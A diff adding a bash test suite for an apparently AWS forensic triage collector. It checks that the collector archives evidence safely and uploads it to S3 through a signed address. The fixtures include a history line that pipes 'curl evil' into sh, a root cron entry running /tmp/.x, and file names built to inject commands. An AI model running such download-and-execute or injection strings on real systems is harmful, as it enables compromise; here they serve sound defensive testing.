@@ -1,0 +1,157 @@
+#!/usr/bin/env bash
+# collector.sh - the collector itself, by every shell that is here, among hostile files.
+. "$(dirname "${BASH_SOURCE[0]}")/lib.sh"
+
+collector=$root/stdlib/aws/collector.sh
+holds "nothing in it means anything to Systems Manager" bash -c '! grep -qF "{{" "$1"' - "$collector"
+holds "it is small" test "$(wc -c <"$collector")" -lt 32768
+
+# A host with things laid out for whoever collects.
+host=$work/host
+mkdir -p "$host"/{etc/cron.d,var/log,var/tmp,dev/shm,tmp/deep,home/bob,home/eve,secret,root}
+printf 'secret-of-somebody-else\n' >"$host/secret/key"
+printf 'root:x:0:0::/root:/bin/sh\nbob:x:1:1::/home/bob:/bin/sh\neve:x:2:2::/home/eve:/bin/sh\nodd:x:3:3::/:/bin/sh\n' >"$host/etc/passwd"
+printf 'sshd: accepted for eve\n' >"$host/var/log/auth.log"
+printf '* * * * * root /tmp/.x\n' >"$host/etc/cron.d/evil"
+printf 'curl evil | sh\n' >"$host/home/bob/.bash_history"
+ln -s "$host/secret/key" "$host/home/eve/.bash_history"
+ln -s "$host/secret" "$host/home/eve/.ssh"
+printf 'ssh-ed25519 AAAA\n' >"$host/secret/authorized_keys"
+ln -s "$host/secret/key" "$host/etc/crontab"
+ln -s "$host/secret/key" "$host/tmp/link"
+ln -s "$host/secret" "$host/tmp/folder"
+mkfifo "$host/tmp/fifo" "$host/home/bob/.zsh_history"
+mkdir "$host/home/bob/.profile"
+cd "$host/tmp" || exit 2
+# shellcheck disable=SC2016 # they are names
+touch '$(touch pwned)' '`touch pwned`' ./-rf \
+    "$host/tmp/a\"b'c;d|e&f" "$host/tmp/ lead" "$host/tmp/\\n" \
+    "$host/tmp/"$'new\nline\nkept\tetc-9\t1\t' "$host/tmp/"$'esc\e[31m' "$host/tmp/"$'\xff\xfe'
+cd "$work" || exit 2
+printf 'payload\n' >"$host/tmp/deep/payload"
+dd if=/dev/zero of="$host/var/log/secure" bs=1M count=3 2>/dev/null
+printf 'the newest line\n' >>"$host/var/log/secure"
+find "$host" >before
+
+# The same without what takes long on a machine that does much else.
+lean=$work/lean.sh
+sed 's/hashes_max=300/hashes_max=3/; s/head -c 16777216 <"$exe"/head -c 1000 <"$exe"/; s/^tool /: tool /' "$collector" >"$lean"
+
+# collect SHELL.. : its last line in `told`, the archive unpacked in `got`
+collect() {
+    rm -rf got kept.tar.gz told.txt
+    CDR_ROOT=$host CDR_KEEP=$work/kept.tar.gz CDR_PROFILE=${profile:-quick} timeout 600 "$@" "${script:-$collector}" >told.txt 2>collector.err </dev/null
+    status=$?
+    tail -n 1 told.txt >"$out"
+    : >"$err"
+    mkdir -p got
+    tar -C got -xzf kept.tar.gz 2>/dev/null
+}
+leftovers() { find /var/tmp /tmp /dev/shm -maxdepth 1 -name 'cdr-??????????' -user "$(id -u)" -newer before 2>/dev/null; }
+
+# A program whose file is gone.
+cp /bin/sleep "$work/gone"
+"$work/gone" 300 &
+child=$!
+children+=("$child")
+sleep 0.3
+rm -f "$work/gone"
+
+for shell in dash 'bash --posix' 'busybox sh'; do
+    command -v "${shell%% *}" >/dev/null || { skip "$shell collects" "it is not installed"; continue; }
+    script=$collector profile=full
+    [ "$shell" = dash ] || script=$lean profile=quick
+    # shellcheck disable=SC2086 # two words
+    collect $shell
+    exits 0 "$shell: it ends well"
+    holds "$shell: its last line is one JSON object" json '.cdr == "triage" and .uploaded == "no" and .error == "" and .files > 20'
+    holds "$shell: with the sum of the archive" test "$(jq -r .sha256 "$out")" = "$(sha256sum kept.tar.gz | cut -d' ' -f1)"
+    holds "$shell: and its size" test "$(jq -r .bytes "$out")" = "$(stat -c %s kept.tar.gz)"
+    holds "$shell: nothing else is printed" test "$(wc -l <told.txt)" = 1
+    holds "$shell: nothing that was found was run" test -z "$(find "$work" / -maxdepth 1 -name pwned)" -a ! -e "$host/tmp/pwned"
+    holds "$shell: names in the archive are ours" bash -c '! tar -tzf "$1" | grep -vE "^triage/[a-zA-Z0-9/._-]*$"' - kept.tar.gz
+    holds "$shell: every line of the manifest has five fields" \
+        bash -c '! awk -F "\t" "NF != 5" "$1" | grep -q .' - got/triage/manifest.tsv
+    holds "$shell: and no control characters" bash -c '! LC_ALL=C grep -q "[[:cntrl:]]" <(tr -d "\t" <"$1")' - got/triage/manifest.tsv
+    holds "$shell: no link is followed to what is not its own" bash -c '! grep -rqF secret-of-somebody-else "$1"' - got
+    holds "$shell: nor a folder's" bash -c '! grep -rqF ssh-ed25519 "$1"' - got
+    holds "$shell: which is told" grep -qF 'a link to ' got/triage/manifest.tsv
+    holds "$shell: what is no regular file is told" grep -q 'zsh_history.*no regular file' got/triage/manifest.tsv
+    holds "$shell: histories are there" grep -rqF 'curl evil | sh' got/triage/home
+    holds "$shell: logins too" grep -rqF 'accepted for eve' got/triage/log
+    holds "$shell: and what starts by itself" grep -rqF '/tmp/.x' got/triage/autostart
+    holds "$shell: of a long log the newest" grep -rqF 'the newest line' got/triage/log
+    holds "$shell: hostile names are listed" grep -qF "a\"b'c;d|e&f" got/triage/recent/tmp.tsv
+    holds "$shell: a name is one line" grep -qF 'new?line?kept' got/triage/recent/tmp.tsv
+    holds "$shell: sockets too" test -s got/triage/network/proc-tcp
+    holds "$shell: it takes its own folder away" test -z "$(leftovers)"
+    find "$host" >after
+    holds "$shell: and leaves the host as it was" cmp -s before after
+    holds "$shell: processes are listed" grep -qE "^$$"$'\t' got/triage/processes/list.tsv
+    [ "$script" = "$collector" ] || continue
+    holds "$shell: recent files have their sums" grep -q "$(sha256sum <"$host/tmp/deep/payload" | cut -d' ' -f1)" got/triage/recent/tmp.sha256
+    holds "$shell: with the sums of their programs" grep -q "$(sha256sum <"/proc/$$/exe" | cut -d' ' -f1)" got/triage/processes/programs.tsv
+    holds "$shell: the content of a deleted program is kept" cmp -s "got/triage/processes/deleted-$child" /bin/sleep
+    holds "$shell: and small files of everybody's folders" bash -c 'grep -rqx payload "$1"' - got/triage/recent
+done
+
+# As nobody in particular.
+if [ "$(id -u)" = 0 ] && command -v setpriv >/dev/null; then
+    chmod 755 "$work" && chmod 700 "$host/home/bob"
+    install -m 644 "$lean" "$work/collector.copy" && mkdir -m 777 "$work/open"
+    CDR_ROOT=$host CDR_KEEP=$work/open/kept.tar.gz timeout 600 setpriv --reuid 65534 --regid 65534 --clear-groups \
+        dash "$work/collector.copy" >told.txt 2>/dev/null </dev/null
+    status=$?
+    tail -n 1 told.txt >"$out"
+    exits 0 "it ends well without rights"
+    rm -rf got && mkdir got && tar -C got -xzf open/kept.tar.gz
+    holds "what it may not read is told" grep -q 'home/bob.*no permission' got/triage/manifest.tsv
+    holds "and counted" json '.skipped > 0 and .files > 10'
+    chmod 755 "$host/home/bob"
+else
+    skip "it ends well without rights" "this is not root"
+fi
+
+# A hundred thousand files.
+mkdir "$host/tmp/many"
+(cd "$host/tmp/many" && seq 100000 | xargs touch)
+before_s=$(date +%s)
+script=$lean profile=quick
+collect dash
+exits 0 "100,000 files are no trouble"
+holds "within its time" test $(($(date +%s) - before_s)) -lt 300
+holds "of which the newest are listed" test "$(wc -l <got/triage/recent/tmp.tsv)" -le 10000
+holds "and the rest is told" grep -q 'only the newest 10000' got/triage/manifest.tsv
+rm -rf "$host/tmp/many"
+
+# It uploads with what is there, to an address that was signed for it.
+start_sandbox
+bucket=cdr-evidence-111122223333
+sandbox_tell faults '[{"operation":"SendCommand","kind":"fail_before","times":9}]'
+run collect triage --host i-01111e1c0ffee0001 to=s3://$bucket/real --data data
+sandbox_tell faults '[]'
+address=$(sandbox_ask calls | jq -r '[.[] | select(.operation == "SendCommand")][0].parameters["Parameters.commands.2"]')
+holds "an address was sent" bash -c '[[ $1 == http://127.0.0.1:*X-Amz-Signature=* ]]' - "$address"
+upload() { # TOOL ADDRESS
+    { printf "read -r CDR_PUT <<'CDR_END'\n%s\nCDR_END\nCDR_PROFILE=quick\n" "$2" &&
+        sed "s/^for try in curl wget python3; do/for try in $1; do/" "$lean"; } >with.sh
+    CDR_ROOT=$host CDR_KEEP=$work/kept.tar.gz dash with.sh >told.txt 2>/dev/null </dev/null
+    status=$?
+    tail -n 1 told.txt >"$out"
+}
+stored() { sandbox_ask state | jq -r '[.accounts[].buckets[].objects[] | select(.key | startswith("real/"))] | last | .content' | base64 -d | sha256sum | cut -d' ' -f1; }
+for tool in curl wget python3; do
+    [ -x "/usr/bin/$tool" ] || { skip "$tool uploads" "it is not in /usr/bin"; continue; }
+    sandbox_tell reset ''
+    upload "$tool" "$address"
+    exits 0 "$tool uploads"
+    holds "$tool: which is told" json '.uploaded == "yes"'
+    holds "$tool: and S3 has what was packed" test "$(stored)" = "$(jq -r .sha256 "$out")"
+done
+upload curl "$address"
+exits 0 "what is there already is not written over"
+holds "which is told" json '.uploaded == "exists"'
+upload curl "${address/real/other}"
+exits 1 "a tampered address is refused"
+holds "with the status" json '.uploaded == "no" and (.error | test("403"))'
+finish
